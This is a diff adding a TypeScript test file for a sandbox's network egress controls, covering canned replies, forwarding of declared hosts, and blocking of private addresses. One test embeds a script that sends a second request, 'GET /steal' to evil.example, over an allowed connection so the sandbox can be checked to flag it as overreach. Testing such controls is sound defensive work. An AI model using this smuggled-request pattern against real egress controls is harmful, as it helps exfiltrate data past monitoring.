@@ -1,0 +1,160 @@
+/** Declared hosts: recorded, answered from a file, or passed on; and never passed on into a private network. */
+import assert from "node:assert/strict";
+import { randomBytes } from "node:crypto";
+import { createServer as createHttp } from "node:http";
+import { createServer as createHttps } from "node:https";
+import { type AddressInfo, connect } from "node:net";
+import { join } from "node:path";
+import { test } from "node:test";
+import { connect as connectTls } from "node:tls";
+import type { AllowedHost, CannedReply, EgressEvent, SandboxOptions } from "../../src/sandbox/index.ts";
+import { start } from "../../src/sandbox/index.ts";
+import { createAuthority } from "../../src/sandbox/inside/certificates.ts";
+import { publicLookup } from "../../src/sandbox/namespaces/forwarder.ts";
+import { fixtures } from "./kit.ts";
+
+const timeout = 30_000;
+const allowed: readonly AllowedHost[] = [
+  { host: "api.declared.example", port: 443, by: "package" },
+  { host: "api.declared.example", port: 80, by: "package" },
+];
+
+async function call(requests: readonly (readonly string[])[], options: SandboxOptions) {
+  const running = await start(
+    { command: process.execPath, args: [join(fixtures, "caller.mjs"), JSON.stringify(requests)] },
+    options,
+  );
+  const parts: Buffer[] = [];
+  running.stdio.stdout?.on("data", (part: Buffer) => parts.push(part));
+  await running.exited;
+  const egress = running.events
+    .filter((event): event is EgressEvent => event.kind === "egress")
+    .sort((a, b) => a.at - b.at);
+  return { answers: Buffer.concat(parts).toString().trim().split("\n"), egress };
+}
+
+test("a declared host is recorded and gets nowhere unless it is said", { timeout }, async () => {
+  const { answers, egress } = await call([["GET", "https://api.declared.example/v1"]], { allowed });
+  assert.deepEqual(answers, ["ECONNRESET"]);
+  assert.deepEqual(
+    egress.map(({ verdict, ending }) => [verdict, ending]),
+    [["permitted", "reset"]],
+  );
+});
+
+test("canned replies answer declared hosts, with and without TLS, and nobody else", { timeout }, async () => {
+  const reply = { method: "GET", status: 200, headers: { "content-type": "text/plain" } } as const;
+  const replies: CannedReply[] = [
+    { ...reply, host: "api.declared.example", port: 443, path: "/v1/*", body: "over TLS" },
+    { ...reply, host: "api.declared.example", port: 80, body: "in the clear" },
+    { ...reply, host: "undeclared.example", port: 443, body: "never" },
+  ];
+  const requests = [
+    ["GET", "https://api.declared.example/v1/now"],
+    ["GET", "https://api.declared.example/v2"],
+    ["GET", "http://api.declared.example/"],
+    ["GET", "https://undeclared.example/"],
+  ];
+  const { answers, egress } = await call(requests, { allowed, replies });
+  assert.deepEqual(answers, ["200 over TLS", "404 {}", "200 in the clear", "ECONNRESET"]);
+  assert.deepEqual(
+    egress.map(({ ending }) => ending),
+    ["answered", "answered", "answered", "reset"],
+  );
+});
+
+test("declared connections are passed on, and what was said in them is seen", { timeout }, async () => {
+  const authority = createAuthority(new Date());
+  const plain = createHttp((request, reply) => reply.end(`plain ${request.headers.host} ${request.url}`));
+  const secure = createHttps(authority.leaf("api.declared.example"), (request, reply) =>
+    reply.end(`secure ${request.headers.host}`),
+  );
+  await Promise.all(
+    [plain, secure].map((server) => new Promise<void>((done) => server.listen(0, "127.0.0.1", done))),
+  );
+  const portOf = (server: typeof plain): number => (server.address() as AddressInfo).port;
+  const secret = randomBytes(20).toString("hex");
+  const requests = [
+    ["GET", "http://api.declared.example/a"],
+    ["POST", "https://api.declared.example/b", secret],
+    ["GET", "http://api.declared.example:81/"],
+    ["GET", "https://other.example/"],
+  ];
+  const { answers, egress } = await call(requests, {
+    allowed,
+    forwards: true,
+    dial: ({ isTls, host }) =>
+      isTls
+        ? connectTls({ host: "127.0.0.1", port: portOf(secure), servername: host, ca: authority.pem })
+        : connect(portOf(plain), "127.0.0.1"),
+  });
+  plain.close();
+  secure.close();
+  assert.deepEqual(answers, [
+    "200 plain api.declared.example /a",
+    "200 secure api.declared.example",
+    "ECONNRESET",
+    "ECONNRESET",
+  ]);
+  const sent = egress.find(({ port, ending }) => port === 443 && ending === "forwarded");
+  assert.equal(
+    Buffer.from(sent?.tls?.plaintext ?? "", "base64")
+      .toString()
+      .includes(secret),
+    true,
+  );
+  assert.deepEqual(
+    egress.map(({ verdict }) => verdict),
+    ["permitted", "permitted", "overreach", "overreach"],
+  );
+});
+
+test("a second request to another host over a connection that was passed on is overreach", {
+  timeout,
+}, async () => {
+  const plain = createHttp((_, reply) => reply.end("hello"));
+  await new Promise<void>((done) => plain.listen(0, "127.0.0.1", done));
+  const twice = `
+    const socket = require("net").connect(80, "api.declared.example", () => {
+      socket.write("GET / HTTP/1.1\\r\\nHost: api.declared.example\\r\\n\\r\\n");
+      socket.once("data", () => {
+        socket.write("GET /steal HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n");
+        socket.on("close", () => process.exit(0));
+        setTimeout(() => process.exit(0), 500);
+      });
+    });`;
+  const running = await start(
+    { command: process.execPath, args: ["-e", twice] },
+    { allowed, forwards: true, dial: () => connect((plain.address() as AddressInfo).port, "127.0.0.1") },
+  );
+  await running.exited;
+  plain.close();
+  plain.closeAllConnections();
+  const [event] = running.events.filter((each): each is EgressEvent => each.kind === "egress");
+  assert.deepEqual([event?.verdict, event?.ending], ["overreach", "forwarded"]);
+  assert.match(event?.reason ?? "", /evil\.example/);
+});
+
+test("a private network is never dialled, whatever is declared", { timeout }, async () => {
+  const hits: string[] = [];
+  const trip = createHttp((_, reply) => {
+    hits.push("hit");
+    reply.end();
+  });
+  await new Promise<void>((done) => trip.listen(0, "127.0.0.1", done));
+  const { port } = trip.address() as AddressInfo;
+  const { egress } = await call([["GET", `http://10.1.2.3:${port}/`]], {
+    allowed: [{ host: "10.1.2.3", port, by: "operator" }],
+    forwards: true,
+  });
+  trip.close();
+  assert.deepEqual(
+    egress.map(({ verdict, ending }) => [verdict, ending]),
+    [["permitted", "reset"]],
+  );
+  assert.deepEqual(hits, []);
+  const found = await new Promise((done) =>
+    publicLookup("localhost", { all: true }, (fault) => done(fault?.message)),
+  );
+  assert.match(String(found), /private addresses only/);
+});
